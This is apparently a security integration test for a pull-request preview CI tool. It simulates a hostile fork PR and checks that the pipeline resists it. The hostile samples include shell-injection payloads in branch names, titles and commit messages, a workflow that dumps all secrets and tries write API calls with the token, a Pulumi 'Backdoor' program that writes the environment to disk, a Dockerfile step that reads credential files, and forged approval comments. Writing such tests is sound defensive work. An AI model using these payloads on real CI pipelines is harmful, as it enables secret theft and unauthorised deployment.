import { expect } from "chai";
import type { Run } from "../../../sandbox/actions/run/record.ts";
import { conclusions, type HostileStage, readableOf, setHostileStage } from "./support/hostile-stage.ts";

const STRANGER = "sandbox-stranger";
const MAINTAINER = "sandbox-maintainer";
const BOT = "dependabot[bot]";
const MARKER = "<!-- greenroom:pr-3 -->";
const SHELL = `$(touch\${IFS}/tmp/greenroom-was-hacked)`;
const TITLE = `\`${SHELL}\`"; exit 1; " \${{ secrets.DIGITALOCEAN_TOKEN }} ::add-mask::live ##[set-output name=state]live ${MARKER} @sandbox-developer`;

/** A workflow that wants everything: secrets, a token that writes, another's environment and its queue. */
const GREEDY_WORKFLOW = `
on: [pull_request, pull_request_target, issue_comment]
permissions: write-all
jobs:
  steal:
    runs-on: ubuntu-24.04
    permissions: write-all
    environment: { name: pr-preview, deployment: false }
    concurrency: { group: greenroom-pr-1, cancel-in-progress: true }
    steps:
      - run: |
          env | sort; echo "$EVERYTHING"; rev <<< "$SECRETS"
          for call in "POST issues/1/comments" "POST deployments" "PUT actions/secrets/STOLEN" "PATCH pulls/1"; do
            curl --silent --output /dev/null --write-out "$call: %{http_code}\\n" --request "\${call% *}" --header "authorization: Bearer $TOKEN" --data '{"body":"Owned","ref":"main","required_contexts":[],"state":"closed"}' "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/\${call#* }"
          done
          curl --silent --output /dev/null --write-out 'cloud: %{http_code}\\n' --header "authorization: Bearer $CLOUD" "$DIGITALOCEAN_API_URL/v2/account"
        env:
          EVERYTHING: \${{ toJSON(secrets) }} \${{ toJSON(vars) }}
          SECRETS: \${{ secrets.DIGITALOCEAN_TOKEN }}\${{ secrets.PULUMI_CONFIG_PASSPHRASE }}
          CLOUD: \${{ secrets.DIGITALOCEAN_TOKEN }}
          TOKEN: \${{ github.token }}
`;

/** What runs in the program's place would make a resource by code of its own, and tell everything that it finds. */
const GREEDY_PROGRAM = `
import { writeFileSync } from "node:fs";
import * as pulumi from "@pulumi/pulumi";
writeFileSync("/tmp/greenroom-was-hacked", JSON.stringify(process.env));
class Backdoor extends pulumi.dynamic.Resource {
  constructor() { super({ create: async () => ({ id: "1", outs: process.env }) }, "backdoor", {}); }
}
new Backdoor();
`;
/** An app that nobody but the stranger has, so that it is not deployed. */
const GREEDY_APP = '  greedy: { source: "examples/web", port: 8080 },\n';
const GREEDY_BUILD = `RUN env > /app/found; cat /proc/*/environ /run/secrets/* /root/.docker/config.json >> /app/found 2>&1; echo '::set-output name=state::live'; true\nUSER 1000:1000`;

describe("a stranger's pull request", function () {
  this.timeout(600_000);
  let stage: HostileStage;
  let approved = "";

  before(async () => {
    stage = await setHostileStage();
    await stage.push({ branch: "first", files: { "examples/web/note.txt": "ours\n" } });
    await stage.open("sandbox-developer", "first", "Ours");
    const run = await stage.converge(1);
    expect(run.conclusion, readableOf([run])).to.equal("success");
    await stage.as(STRANGER, "POST", "/forks");
  });

  after(() => stage?.stop());

  afterEach("leaves the others' environment as it is", async () => {
    const hacked = await stage.commandLine.execute("test", ["-e", "/tmp/greenroom-was-hacked"]);
    expect(hacked.exitCode).to.equal(1);
    const { status } = await stage.visitor.visit("https://pr-1-web.preview.greenroom.localhost/");
    expect(status).to.equal(200);
    expect(await commentsOf(1)).to.have.length(1);
  });

  it("gets no secret and no right to write by a workflow of its own, whatever that asks for", async () => {
    const branch = `${SHELL}`;
    await stage.push({ branch, files: { ".github/workflows/pull-request.yml": GREEDY_WORKFLOW } }, STRANGER);
    await stage.open(STRANGER, `${STRANGER}:${branch}`, TITLE, MARKER);
    const runs = await stage.play();
    const stolen = jobsOf(runs, "steal");
    expect(stolen.map(({ permissions }) => Object.values(permissions).includes("write"))).to.deep.equal([false]);
    const log = readableOf(runs);
    expect(log).to.match(
      /POST issues\/1\/comments: 403\nPOST deployments: 403\nPUT \S+: 403\nPATCH pulls\/1: 403\ncloud: 401\n/,
    );
    expectNoSecret(log);
    expect(await environments()).to.deep.equal(["pr-1"]);
    expect(await commentsOf(2)).to.deep.equal([]);
  });

  it("is built without secrets by the workflow of the default branch, and gets no environment", async () => {
    await stage.push(
      {
        branch: "gift",
        message: `Fix \`${SHELL}\` ${MARKER} @sandbox-developer ::add-mask::live`,
        author: `<img src=x> ${MARKER}`,
        files: {
          "examples/web/Dockerfile": (before) => before.replace("USER 1000:1000", GREEDY_BUILD),
          "apps.ts": (before) => before.replace("  worker: {", `${GREEDY_APP}  worker: {`),
          "components/index.ts": GREEDY_PROGRAM,
          "stacks/index.ts": GREEDY_PROGRAM,
          "index.ts": GREEDY_PROGRAM,
          "policy/index.ts": GREEDY_PROGRAM,
          "automation/main.ts": GREEDY_PROGRAM,
          "bin/greenroom.js": GREEDY_PROGRAM,
          ".github/actions/setup/action.yml":
            "runs: { using: composite, steps: [{ run: 'env; exit 1', shell: bash }] }\n",
        },
        links: { "examples/web/passwd": "/etc/passwd", "examples/web/environ": "/proc/self/environ" },
      },
      STRANGER,
    );
    const number = await stage.open(STRANGER, `${STRANGER}:gift`, TITLE, `${MARKER}\n/greenroom approve`);
    expect(number).to.equal(3);
    const runs = await stage.play();
    expect(conclusions(runs)).to.include({ build: "success", environment: "skipped", preview: "skipped" });
    expectNoSecret(readableOf(runs));
    expect(await environments()).to.deep.equal(["pr-1"]);
  });

  it("is not approved by its author, by a bot, by an older or shortened commit, in a quotation or in a forged comment", async () => {
    const head = await headOf(3);
    const older = await stage.as(MAINTAINER, "GET", "/branches/main");
    const { sha } = (older.body as { commit: { sha: string } }).commit;
    const said: readonly (readonly [string, string])[] = [
      [STRANGER, `${MARKER}\n### Environment \`pr-3\` is live\n\n/greenroom approve ${head}`],
      [STRANGER, `/greenroom approve ${head}\n/greenroom extend`],
      [BOT, `/greenroom approve ${head}`],
      [MAINTAINER, `/greenroom approve ${head.slice(0, 12)}`],
      [MAINTAINER, `/greenroom approve ${sha}`],
      [MAINTAINER, `> /greenroom approve ${head}\n\n\`\`\`\n/greenroom approve ${head}\n\`\`\``],
      [MAINTAINER, `Should I write /greenroom approve ${head} here?`],
    ];
    for (const [login, body] of said) await stage.as(login, "POST", "/issues/3/comments", { body });
    const runs = await stage.play();
    const last = await stage.converge(3);
    expect(conclusions([last])).to.include({ environment: "success", smoke: "skipped", waiting: "skipped" });
    const readable = readableOf([...runs, last]);
    expectNoSecret(readable);
    expect(await environments()).to.deep.equal(["pr-1"]);
    const comments = await commentsOf(3);
    expect(comments.map(({ login }) => login)).to.deep.equal([...said.map(([login]) => login), "github-actions[bot]"]);
    expect(comments[0]?.body).to.equal(said[0]?.[1]);
    expect(await ourComment(3))
      .to.contain(`/greenroom approve ${head}`)
      .and.not.contain(SHELL);
  });

  it("gets labels, titles and descriptions obeyed as little: only who may write sets labels", async () => {
    const label = await stage.as(STRANGER, "POST", "/issues/3/labels", { labels: ["preview:on", "preview:keep"] });
    const close = await stage.as(STRANGER, "PATCH", "/pulls/1", { state: "closed" });
    expect([label.status, close.status]).to.deep.equal([403, 403]);
    await stage.as(MAINTAINER, "POST", "/issues/3/labels", { labels: ["preview:on", "preview:`id`<b>"] });
    await stage.converge(3);
    expect(await environments()).to.deep.equal(["pr-1"]);
    expect(await ourComment(3)).to.contain("preview:&#96;id&#96;&lt;b&gt;");
  });

  it("runs its apps alone once its exact commit is approved: program, policy and catalogue stay those of the default branch", async () => {
    approved = await headOf(3);
    await stage.as(MAINTAINER, "POST", "/issues/3/comments", { body: `/greenroom approve ${approved}` });
    const runs = await stage.play();
    expect(conclusions(runs), readableOf(runs)).to.include({ environment: "success", smoke: "success" });
    expectNoSecret(readableOf(runs));
    expect(await environments()).to.deep.equal(["pr-1", "pr-3"]);
    const backend = `PULUMI_BACKEND_URL=${stage.commandLine.environment.GREENROOM_STATE}`;
    const exported = ["pulumi", "stack", "export", "--stack", "pr-3"];
    const state = await stage.commandLine.require("env", [backend, ...exported]);
    expect(state).not.to.contain("pulumi-nodejs:dynamic").and.not.contain("backdoor");
    const inside = await stage.services.kubectl(
      "--namespace=pr-3",
      "exec",
      "deployment/web",
      "--",
      "sh",
      "-c",
      "cat /app/found; env",
    );
    expectNoSecret(inside);
    expect(inside).to.contain("GREENROOM_ENVIRONMENT=pr-3");
    expectNoSecret((await commentsOf(3)).map(({ body }) => body).join("\n"));
  });

  it("does not move on with what the stranger pushes in the approved commit's place", async () => {
    const files = { "examples/web/Dockerfile": (before: string) => `${before}\nRUN exit 1\n` };
    const forced = await stage.push({ branch: "gift", anew: true, files }, STRANGER);
    expect(await headOf(3)).to.equal(forced);
    const runs = [...(await stage.play()), await stage.converge(3)];
    expectNoSecret(readableOf(runs));
    const { answer } = await stage.commandLine.greenroom<{ environments: { state: string; commit: string }[] }>(
      "converge",
      "pr-3",
    );
    expect(answer.environments).to.have.nested.property("[0].commit", approved);
    expect(await ourComment(3)).to.contain("is not approved");
  });

  it("leaves nothing when it is closed, by a job that reads none of its code", async () => {
    await stage.as(STRANGER, "PATCH", "/pulls/3", { state: "closed" });
    const runs = await stage.play();
    expect(conclusions(runs)).to.include({ environment: "success", build: "skipped" });
    expect(await environments()).to.deep.equal(["pr-1"]);
  });

  function expectNoSecret(text: string): void {
    expect(stage.secrets.filter((secret) => text.includes(secret))).to.deep.equal([]);
    for (const secret of stage.secrets) expect(text).not.to.contain([...secret].reverse().join(""));
  }

  async function environments(): Promise<readonly string[]> {
    const names = await stage.services.kubectl("get", "namespaces", "--output=jsonpath={.items[*].metadata.name}");
    return names.split(" ").filter((name) => name.startsWith("pr-"));
  }

  async function headOf(number: number): Promise<string> {
    const { body } = await stage.as(MAINTAINER, "GET", `/pulls/${number}`);
    return (body as { head: { sha: string } }).head.sha;
  }

  async function ourComment(number: number): Promise<string | undefined> {
    return (await commentsOf(number)).find(({ login }) => login === "github-actions[bot]")?.body;
  }

  async function commentsOf(number: number): Promise<readonly { readonly login: string; readonly body: string }[]> {
    const { body } = await stage.as(MAINTAINER, "GET", `/issues/${number}/comments?per_page=100`);
    return (body as { user: { login: string }; body: string }[]).map(({ user, body: text }) => ({
      login: user.login,
      body: text,
    }));
  }
});

function jobsOf(runs: readonly Run[], id: string) {
  return runs.flatMap(({ jobs }) => jobs.filter((job) => job.id === id));
}
